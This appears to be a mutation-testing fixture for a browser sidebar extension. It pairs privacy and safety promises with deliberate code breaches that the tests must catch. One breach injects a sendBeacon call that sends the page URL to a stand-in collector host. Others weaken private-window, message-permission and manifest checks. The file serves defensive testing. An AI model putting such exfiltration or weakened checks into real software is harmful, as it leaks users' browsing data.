/**
 * @typedef {{ id: string, what: string, held: string[] }} Kept a promise and the tests that hold it, each "file: words of its name"
 * @typedef {{ promise: string, file: string, was: string, becomes: string, test: string, title: string }} Breach
 *   one change of a source file by which the promise is broken, and the test that must fail then
 */

/** The promises to the reader. Those that need a browser have their breaches in `faults/browser/breach`. @type {Kept[]} */
export const promises = [
  {
    id: "P1",
    what: "no request leaves the extension",
    held: [
      "repository/bundles: no bundle contains %s",
      "repository/manifest: lets its own pages load nothing from anywhere",
      "e2e/network: everything that reaches the network with us also does so without us",
      "e2e/network: a script in %s that tried to call out could not",
      "faults/browser/breach: P1: background and own pages that tried to call out are stopped by their own policy",
      "faults/browser/breach: P1: a %s that calls out is seen in the record of traffic",
      "faults/browser/breach: P1: without the policy a background that calls out is seen in the record of traffic",
    ],
  },
  {
    id: "P2",
    what: "the page cannot read the sidebar",
    held: [
      "e2e/secrecy: a page that polls every channel learns nothing of what the panel shows",
      "e2e/secrecy: the page cannot open the closed root",
      "faults/browser/breach: P2: a secret planted in the index is shown in the panel and never heard by the page",
      "faults/browser/breach: P2: %s is heard by the spy page",
    ],
  },
  {
    id: "P3",
    what: "the page works the same with us on it",
    held: [
      "e2e/unharmed: with the panel in use, %s is what it is without us",
      "e2e/unharmed: %s is what it is without us",
      "e2e/unharmed: nothing of ours is printed",
      "e2e/keyboard: with the focus in the page, the page gets every key and none is eaten",
      "faults/browser/breach: P3: a visit that does the page any harm is told from a page without us",
    ],
  },
  {
    id: "P4",
    what: "one sidebar, never two, never a dead one",
    held: [
      "faults/browser/reload: F10: a reload with ten open tabs leaves one working sidebar in each",
      "faults/browser/reload: F13: switched off, pages lose sidebar and marks; switched on again, it works",
      "faults/browser/install: F15: installed with tabs open, each story page gets one sidebar",
      "faults/browser/breach: P4: a second sidebar %s",
      "faults/browser/breach: P4: a sidebar that outlives its extension is seen",
    ],
  },
  {
    id: "P5",
    what: "nothing from a private window is kept",
    held: [
      "background/handlers: from a private window nothing is kept",
      "faults/browser/access: F44: of a match put aside in a private window nothing is kept",
    ],
  },
  {
    id: "P6",
    what: "settings and packs survive a crash, an update, a full disk, or the reader is told",
    held: [
      "faults/storage: F05: killed at write %i of an import, the old set or the new one is there",
      "faults/storage: F26: no room at write %i takes the whole change back, and reading goes on",
      "background/library: a newer release replaces the bundled pack, also where only its content changed",
      "platform/settings: where storage cannot be read, defaults are used and say so, and nothing is written",
    ],
  },
  {
    id: "P7",
    what: "a bad import changes nothing",
    held: [
      "faults/packs: %s: %s is refused with a reason and changes nothing",
      "e2e/packs: a spoiled pack is refused with its mistakes, and its story stays unknown",
    ],
  },
  {
    id: "P8",
    what: "complete by keyboard and screen reader",
    held: [
      "sidebar/states: has no violation that axe can find, open or closed",
      "e2e/keyboard: every control of the panel is reached by Tab, has a name, and none holds the focus",
      "e2e/accessibility: every card is named by its question, and whatever can be pressed has a name of its own",
      "faults/browser/breach: P8: a panel whose buttons the keyboard passes over is told by what Tab reaches",
    ],
  },
  {
    id: "P9",
    what: "a rebuild gives the same bytes",
    held: ["repository/rebuild: the %s archive, rebuilt elsewhere from the sources, is the same"],
  },
  {
    id: "P10",
    what: "no access that was not granted",
    held: [
      "repository/manifest: asks for nothing else, and opens nothing to pages or other extensions",
      "messages/listen: what destroys is refused to a content script, and nothing happens",
      "faults/browser/access: F16: a permission taken back takes panel, marks and badge along",
      "e2e/quiet: nothing at all on a host that is not listed, even with the story on it",
      "faults/browser/breach: P10: an extension that runs on every site is seen on one that is not listed",
    ],
  },
];

/** @type {Breach[]} */
export const breaches = [
  {
    promise: "P1",
    file: "src/content/gate.ts",
    was: "const announce = async (): Promise<void> => {",
    becomes:
      'const announce = async (): Promise<void> => {\n  navigator.sendBeacon("https://collect.example/", location.href);',
    test: "repository/bundles",
    title: "no bundle contains requests",
  },
  {
    promise: "P5",
    file: "src/background/handlers/from-page.ts",
    was: "sender.tab?.incognito === true",
    becomes: "sender.tab?.incognito === null",
    test: "background/handlers",
    title: "from a private window nothing is kept",
  },
  {
    promise: "P6",
    file: "src/background/database/write.ts",
    was: "    abort(transaction);\n",
    becomes: "",
    test: "faults/storage",
    title: "takes the whole change back",
  },
  {
    promise: "P6",
    file: "src/platform/settings.ts",
    was: "    if (problem) return problem;\n    return writeSettings",
    becomes: "    return writeSettings",
    test: "platform/settings",
    title: "nothing is written",
  },
  {
    promise: "P7",
    file: "src/core/pack/parse.ts",
    was: "return checkPack(json.value);",
    becomes: "return checkPack(json.value).ok ? checkPack(json.value) : { ok: true, value: json.value as Pack };",
    test: "faults/packs",
    title: "is refused with a reason and changes nothing",
  },
  {
    promise: "P8",
    file: "src/sidebar/parts/PanelHead.tsx",
    was: 'aria-label={t("panel.close")}',
    becomes: "",
    test: "sidebar/states",
    title: "has no violation that axe can find",
  },
  {
    promise: "P9",
    file: "src/cli/build/zip.mjs",
    was: "new Date(2020, 0, 1, 12)",
    becomes: "new Date()",
    test: "repository/rebuild",
    title: "rebuilt elsewhere from the sources, is the same",
  },
  {
    promise: "P10",
    file: "src/messages/listen.ts",
    was: "if (entry.ownPagesOnly && !own)",
    becomes: "if (entry.ownPagesOnly && !own && sender === undefined)",
    test: "messages/listen",
    title: "what destroys is refused to a content script",
  },
  {
    promise: "P10",
    file: "manifest.json",
    was: '"activeTab"]',
    becomes: '"activeTab", "tabs"]',
    test: "repository/manifest",
    title: "asks for nothing else",
  },
];
